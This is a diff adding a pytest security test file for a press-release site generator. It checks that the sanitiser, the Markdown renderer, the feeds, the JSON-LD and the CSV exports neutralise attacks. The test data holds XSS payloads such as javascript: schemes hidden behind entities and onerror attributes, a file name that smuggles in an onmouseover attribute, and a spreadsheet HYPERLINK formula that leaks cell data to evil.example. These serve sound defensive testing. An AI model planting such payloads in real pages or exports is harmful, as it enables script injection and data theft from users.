@@ -1,0 +1,241 @@
+"""Hostile content: nothing a release, a page or issuer.yaml says can run script or a formula.
+
+The sanitiser is checked against the OWASP filter-evasion classes (tests/hostile.py), the
+Markdown renderer against the attacks Markdown itself allows, and a built site full of
+attacks (tests/fixtures/sites/attacks) in every file it writes: pages, feeds, JSON-LD, CSV
+and JSON. tests/browser/test_hostile_browser.py opens the same pages in Chromium.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import markdown
+import pytest
+
+from hostile import VECTORS, inert_problems
+from sitebuild import ROOT, SITES, build_site
+from dateline import markup
+from dateline.errors import DatelineError
+from dateline.sanitize import clean_html
+
+MARKDOWN_SETTINGS = {"MARKDOWN": {"extension_configs": {"markdown.extensions.extra": {}},
+                                  "output_format": "html5"}}
+RELEASE = "releases/2024/attribute-lists/index.html"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+RECIPIENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+# What Markdown itself lets an author write: attribute lists and addresses whose scheme
+# hides behind entities (Python-Markdown passes both through to the HTML).
+MARKDOWN_VECTORS = {
+    "attribute list onerror": '![c](x.png){: onerror="alert(1)" }',
+    "attribute list onclick": '[a](http://example.com){: onclick="alert(1)" }',
+    "attribute list on a heading": '## Head {: onfocus="alert(1)" autofocus="" tabindex="0" }',
+    "attribute list style": 'Text\n{: style="background:url(javascript:alert(1))" }',
+    "decimal entity scheme": "[a](&#106;avascript:alert(1))",
+    "hex entity scheme": "[a](&#x6A;avascript:alert(1))",
+    "named colon": "[a](javascript&colon;alert(1))",
+    "reference link": "[r]\n\n[r]: &#106;avascript:alert(1)",
+    "image entity scheme": "![i](&#106;avascript:alert(1))",
+    "autolink-like": "<javascript:alert(1)>",
+}
+
+
+@pytest.mark.parametrize("name", sorted(VECTORS))
+def test_sanitiser_leaves_every_owasp_vector_inert(name):
+    vector = VECTORS[name]
+    assert inert_problems(vector), f"the oracle must see the raw {name} vector as live"
+    assert inert_problems(clean_html(vector)) == [], clean_html(vector)
+
+
+@pytest.mark.parametrize("name", sorted(MARKDOWN_VECTORS))
+def test_markdown_renderer_leaves_attribute_lists_and_entity_schemes_inert(name):
+    source = MARKDOWN_VECTORS[name]
+    unsafe = markdown.markdown(source, extensions=["extra"], output_format="html5")
+    if name != "autolink-like":  # Python-Markdown itself refuses that one
+        assert inert_problems(unsafe), f"plain Markdown should obey {name}: {unsafe}"
+    rendered = markup.converter(MARKDOWN_SETTINGS).convert(source)
+    assert inert_problems(rendered) == [], rendered
+
+
+def test_sanitiser_keeps_what_releases_use():
+    source = (
+        "Intro with a [link](https://example.com/a?b=1&c=2), [mail](mailto:ir@example.com), "
+        "[phone](tel:+16045550142) and a [relative](../2023/other/) one.[^1]\n\n"
+        "| Hole | Grade |\n|:-----|------:|\n| K-1  | 0.52 |\n\n"
+        "![Core photo](core.jpg)\n\n## Results {: #results .lead }\n\n"
+        "*[WO3]: tungsten trioxide\n\nWO3 grades.\n\n[^1]: A footnote.\n"
+    )
+    html = markup.converter(MARKDOWN_SETTINGS).convert(source)
+    for kept in (
+        '<a href="https://example.com/a?b=1&amp;c=2">link</a>',
+        '<a href="mailto:ir@example.com">mail</a>', '<a href="tel:+16045550142">phone</a>',
+        '<a href="../2023/other/">relative</a>', '<th style="text-align:left">Hole</th>',
+        '<td style="text-align:right">0.52</td>', '<img alt="Core photo" src="core.jpg">',
+        '<h2 class="lead" id="results">Results</h2>', '<abbr title="tungsten trioxide">WO3</abbr>',
+        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>', '<li id="fn:1">',
+    ):
+        assert kept in html, (kept, html)
+
+
+# --- a built site full of attacks ---------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def attacked_site(tmp_path_factory) -> Path:
+    base = tmp_path_factory.mktemp("attacks")
+    shutil.copytree(SITES / "attacks" / "content", base / "content")
+    return build_site(base / "content", base / "output", base / "cache")
+
+
+def test_every_page_of_the_attacked_site_is_inert(attacked_site):
+    pages = sorted(attacked_site.rglob("*.html"))
+    assert len(pages) >= 8
+    for path in pages:
+        problems = inert_problems(path.read_text(encoding="utf-8"), page=True)
+        assert problems == [], (str(path.relative_to(attacked_site)), problems)
+
+
+def test_attacks_are_shown_as_text_where_they_were_written(attacked_site):
+    release = (attacked_site / RELEASE).read_text(encoding="utf-8")
+    assert "Kestrel results &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>" in release
+    # issuer.yaml's disclaimer and legend: raw HTML stays text, links lose javascript:
+    assert "forward-looking statements. &lt;script&gt;alert(1)&lt;/script&gt;</p>" in release
+    assert "this release. &lt;svg onload=alert(1)&gt;&lt;/svg&gt;</p>" in release
+    assert "<p>See <a>our policy</a> and <a>the other one</a>.</p>" in release
+    assert 'Read the <a href="https://northgate.example.com/assays">assay table</a>' in release
+    about = (attacked_site / "about/index.html").read_text(encoding="utf-8")
+    assert "tungsten. &lt;script&gt;alert(1)&lt;/script&gt;</p>" in about
+    assert "<p><a>Our site</a></p>" in about
+
+
+def _feed_html(path: Path) -> list[str]:
+    """The parts of a feed a reader renders as HTML: Atom's type="html", RSS descriptions.
+    (Titles are plain text in both formats; markup in them is shown as characters.)"""
+    parts = []
+    for node in ET.parse(path).iter():
+        name = node.tag.rsplit("}", 1)[-1]
+        if name == "description" or node.get("type") == "html":
+            parts.append(node.text or "")
+    return parts
+
+
+def test_feeds_carry_only_inert_html(attacked_site):
+    feeds = sorted((attacked_site / "feeds").rglob("*.xml"))
+    assert len(feeds) == 4
+    for path in feeds:
+        bodies = _feed_html(path)
+        assert any("onerror" in body for body in bodies), path  # the attacks reached the feed
+        for body in bodies:
+            assert inert_problems(body) == [], (path.name, body[:300])
+
+
+def test_json_ld_has_no_angle_brackets_and_keeps_the_text(attacked_site):
+    release = (attacked_site / RELEASE).read_text(encoding="utf-8")
+    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', release, re.S).group(1)
+    assert not re.search(r"[<>&]", block)
+    record = json.loads(block)
+    assert record["headline"].startswith("Northgate <!--<script> Kestrel results </script>")
+    assert record["dateline"] == "Vancouver <!--<script>, Canada"
+    assert record["publisher"]["name"] == "Northgate <!--<script> Tungsten Corp."
+    assert "Kestrel project <!--<script> today." in record["articleBody"]
+    # the page goes on after the block: the body is there, not swallowed by the script
+    after = release[release.index(block) + len(block):]
+    assert after.startswith("</script>") and "<p>Northgate Tungsten Corp. reports assays" in after
+
+
+def _cells(path: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
+
+
+@pytest.mark.parametrize("name", ["grants", "milestones"])
+def test_no_csv_cell_is_a_formula(attacked_site, name):
+    rows = _cells(attacked_site / name / f"{name}.csv")
+    assert len(rows) == 2
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(FORMULA_STARTS), cell
+    neutralised = [cell for cell in rows[1] if cell.startswith("'")]
+    assert len(neutralised) >= 2, rows[1]  # the attacks reached the file, made harmless
+
+
+def test_csv_keeps_the_value_behind_an_apostrophe_and_json_keeps_it_as_is(attacked_site):
+    header, row = _cells(attacked_site / "grants" / "grants.csv")
+    grant = dict(zip(header, row))
+    assert grant["recipient"] == "'" + RECIPIENT
+    assert grant["role"] == "'+director"
+    assert grant["number"] == "100000"
+    [record] = json.loads((attacked_site / "grants" / "grants.json").read_text(encoding="utf-8"))
+    assert record["recipient"] == RECIPIENT
+
+
+# --- refused before anything is written ---------------------------------------------------
+
+
+def _problems(content: Path, tmp_path: Path) -> list[str]:
+    with pytest.raises(DatelineError) as caught:
+        build_site(content, tmp_path / "output")
+    assert not (tmp_path / "output").exists()
+    return [f"{p.path}:{p.line}: {p.field}: {p.message}" for p in caught.value.problems]
+
+
+PLAIN_RELEASE = """---
+title: Northgate Reports Progress
+date: 2024-05-01
+ticker: "TSXV: NGT"
+tags: [operations]
+---
+Northgate reports progress.
+"""
+
+
+@pytest.mark.parametrize("name", ['2024-05-01-x"onmouseover="alert(1)"a=".md',
+                                  "2024-05-01-Hello World!.md"])
+def test_a_file_name_that_is_no_slug_is_an_error(tiny_site, tmp_path, name):
+    (tiny_site / "releases" / "2024" / name).write_text(PLAIN_RELEASE, encoding="utf-8")
+    slug = name[len("2024-05-01-"):-len(".md")]
+    [problem] = _problems(tiny_site, tmp_path)
+    assert problem.endswith(
+        f"{name}:1: slug: expected a file name whose slug is lowercase letters, digits and "
+        f"hyphens, or a slug: field, found {slug!r}")
+
+
+def test_a_slug_field_makes_any_file_name_usable(tiny_site, tmp_path):
+    text = PLAIN_RELEASE.replace("tags:", "slug: northgate-progress\ntags:")
+    (tiny_site / "releases" / "2024" / "2024-05-01-Progress Report!.md").write_text(text)
+    site = build_site(tiny_site, tmp_path / "output")
+    assert (site / "releases/2024/northgate-progress/index.html").is_file()
+
+
+def test_pages_and_releases_in_other_formats_are_refused(tiny_site, tmp_path):
+    (tiny_site / "pages" / "raw.html").write_text("<script>alert(1)</script>", encoding="utf-8")
+    (tiny_site / "pages" / "notes.rst").write_text("Notes\n=====\n\n.. raw:: html\n", encoding="utf-8")
+    (tiny_site / "pages" / "old.mkd").write_text("Title: Old\n\n<script>x</script>", encoding="utf-8")
+    (tiny_site / "releases" / "2024" / "2024-06-01-shouting.MD").write_text(PLAIN_RELEASE)
+    problems = _problems(tiny_site, tmp_path)
+    found = sorted((Path(p.split(":1: ")[0]).name, p.split(" found ")[1]) for p in problems)
+    assert found == [
+        ("2024-06-01-shouting.MD", "'.MD' (Dateline reads no other format, so nothing skips validation)"),
+        ("notes.rst", "'.rst' (Dateline reads no other format, so nothing skips validation)"),
+        ("old.mkd", "'.mkd' (Dateline reads no other format, so nothing skips validation)"),
+        ("raw.html", "'.html' (Dateline reads no other format, so nothing skips validation)"),
+    ]
+    assert all(":1: format: expected a Markdown file ending in .md or .markdown" in p for p in problems)
+
+
+def test_a_build_without_template_autoescape_is_refused(tiny_site, tmp_path):
+    with pytest.raises(DatelineError) as caught:
+        build_site(tiny_site, tmp_path / "output",
+                   JINJA_ENVIRONMENT={"trim_blocks": True, "lstrip_blocks": True})
+    assert str(caught.value.problems[0]) == (
+        "pelicanconf.py:1: JINJA_ENVIRONMENT: expected autoescape: True "
+        "(the theme escapes through it), found False")
+
+
+def test_pelicanconf_turns_autoescape_on():
+    assert '"autoescape": True' in (ROOT / "pelicanconf.py").read_text(encoding="utf-8")
